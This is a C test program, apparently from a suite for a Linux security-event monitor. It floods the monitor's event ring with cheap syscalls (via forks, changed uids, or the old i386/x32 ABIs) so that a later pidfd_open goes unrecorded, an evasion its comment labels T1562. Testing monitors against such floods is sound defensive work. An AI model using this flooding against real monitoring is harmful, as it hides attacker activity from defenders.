// SPDX-License-Identifier: Apache-2.0
// flood-free-calls PROCS PROCESSES CALLS HOW: fills the ring of security events with calls that cost nothing, so that
// what another program does finds no room there (impair defenses: T1562). PROCESSES children make CALLS rounds each of
// sysinfo, setpgid, prctl, a refused mount, an execve of nothing and a connect to nobody. HOW: fork: each round is made
// by a child of its own, whose budget is new; uids: and by another user; old-abi: the calls are those of i386 and x32
// (exits with 77 when the kernel has none of i386). Without, each process hides one pidfd_open of itself after its
// flood.
#include <linux/prctl.h>
#include <signal.h>
#include <netinet/in.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/sysinfo.h>

#include "flood.h"

static void make_calls(void)
{
	struct sockaddr_in nobody = {.sin_family = AF_INET, .sin_port = htons(1)};
	char *const none[] = {NULL};
	struct sysinfo info;

	sysinfo(&info);
	setpgid(0, 0);
	prctl(PR_SET_NAME, "flood");
	mount("none", "/absent", "none", 0, NULL);
	execve("/absent/program", none, none);
	connect(-1, (struct sockaddr *)&nobody, sizeof(nobody));
}

static void flood(long rounds)
{
	for (long i = 0; i < rounds; i++)
		make_calls();
	syscall(SYS_pidfd_open, getpid(), 0);
}

static void int80(long number)
{
	long result;

	__asm__ volatile("int $0x80"
			 : "=a"(result)
			 : "a"(number), "b"(0), "c"(0), "d"(0), "S"(0), "D"(0)
			 : "memory", "r8", "r9", "r10", "r11");
}

static void unsupported(int signal)
{
	_exit(77);
}

/* sysinfo, setpgid, prctl, mount, execve. */
static void flood_by_old_abi(long rounds)
{
	static const long numbers[] = {116, 57, 172, 21, 11};

	for (long i = 0; i < rounds; i++) {
		for (int j = 0; j < 5; j++)
			int80(numbers[j]);
		syscall(0x40000000 | SYS_prctl, 0, 0, 0, 0, 0);
	}
}

static _Bool with_uids;

static void flood_by_children(long rounds)
{
	for (long i = 0; i < rounds; i++) {
		pid_t pid = fork();

		if (pid < 0)
			fail("fork");
		if (pid == 0) {
			if (with_uids)
				syscall(SYS_setuid, 100000 + i);
			make_calls();
			_exit(0);
		}
		waitpid(pid, NULL, 0);
	}
}

int main(int argc, char **argv)
{
	const char *how = argc > 4 ? argv[4] : "";

	if (argc < 4)
		return 98;
	if (!strcmp(how, "old-abi")) {
		signal(SIGSEGV, unsupported);
		int80(20); /* getpid */
		return run_flood(argv, flood_by_old_abi);
	}
	with_uids = !strcmp(how, "uids");
	return run_flood(argv, *how ? flood_by_children : flood);
}
